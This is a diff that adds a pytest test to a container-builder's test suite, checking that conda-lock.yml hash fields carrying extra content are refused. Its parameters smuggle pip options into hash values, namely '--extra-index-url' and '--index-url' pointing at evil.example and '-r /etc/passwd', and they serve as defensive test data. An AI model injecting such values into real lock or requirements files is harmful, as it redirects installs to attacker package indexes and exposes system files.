@@ -277,3 +277,21 @@ def test_the_download_limit_is_a_size_setting_with_a_default():
     assert Repo2DockerBuilder(conda_max_download="").conda_settings().max_download_bytes == 0
     with pytest.raises(TraitError, match="conda_max_download: 'lots' is not a size"):
         Repo2DockerBuilder(conda_max_download="lots")
+
+
+@pytest.mark.parametrize("hash_yaml", [
+    '{sha256: "cc\\n--extra-index-url https://evil.example/simple"}',  # a line of its own in pip's file
+    '{sha256: "cc --index-url https://evil.example/simple"}',
+    '{md5: "aa\\n-r /etc/passwd"}',
+    '"cc"',  # not a mapping
+    '[cc]',
+])
+def test_a_conda_lock_hash_that_is_not_hex_is_refused(hash_yaml):
+    """conda-lock.yml's pip pins become requirement lines with the lock's hash: a hash value must
+    not carry a line or an option of its own into them (nor a conda entry's into the manifest)."""
+    for entry in ("six", "numpy"):
+        start = CONDA_LOCK.index(f"- name: {entry}")
+        at = CONDA_LOCK.index("  hash: ", start)
+        lock = CONDA_LOCK[:at] + f"  hash: {hash_yaml}" + CONDA_LOCK[CONDA_LOCK.index("\n", at):]
+        message = refused({"environment.yml": "dependencies: [numpy >=1.26, pip: [six]]\n", "conda-lock.yml": lock})
+        assert message.startswith(f"conda-lock.yml: the entry '{entry}' has no usable URL, name or hash")
